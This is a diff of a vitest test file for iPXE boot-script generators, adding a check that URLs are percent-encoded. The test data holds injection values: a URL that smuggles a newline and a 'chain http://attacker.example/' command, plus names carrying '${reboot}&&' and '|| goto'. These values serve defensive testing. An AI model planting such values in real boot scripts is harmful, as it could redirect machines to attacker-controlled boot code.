@@ -1,6 +1,6 @@
-import { describe, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { expectGolden } from '../../test/support/golden.js';
-import { chainScript, installerScript, localBootScript, retryLaterScript, unidentifiedScript } from './ipxe.js';
+import { chainScript, installerScript, ipxeUrl, localBootScript, retryLaterScript, unidentifiedScript } from './ipxe.js';
 
 describe('iPXE scripts', () => {
   it('chain script', () => expectGolden('ipxe/chain.ipxe', chainScript('http://10.0.2.2:7708', 'n0nce')));
@@ -18,6 +18,14 @@ describe('iPXE scripts', () => {
   it('local boot script', () => expectGolden('ipxe/local.ipxe', localBootScript('brisk-heron-3f7a', 'it is available')));
   it('unidentified script', () => expectGolden('ipxe/unidentified.ipxe', unidentifiedScript('no usable UUID, serial, asset tag or MAC address was sent')));
   it('retry-later script', () => expectGolden('ipxe/retry-later.ipxe', retryLaterScript('http://10.0.2.2:7708', 'database unreachable')));
+  it('percent-encodes in URLs what iPXE would read: spaces, ${…}, line breaks', () => {
+    const hostile = 'http://10.0.2.2:7708/x ${net0/mac}\nchain http://attacker.example/';
+    expect(ipxeUrl('http://10.0.2.2:7708/files/a.img?x=1&y=2')).toBe('http://10.0.2.2:7708/files/a.img?x=1&y=2');
+    for (const script of [chainScript(hostile, 'n'), retryLaterScript(hostile, 'why')]) {
+      expect(script).toContain('http://10.0.2.2:7708/x%20%24%7Bnet0/mac%7D%0Achain%20http://attacker.example/');
+      expect(script).not.toMatch(/^chain http:\/\/attacker/m);
+    }
+  });
   it('keeps machine-chosen text from breaking the script', () =>
     expectGolden('ipxe/local-hostile-name.ipxe', localBootScript('x${reboot}&&', 'why || goto x')));
 });
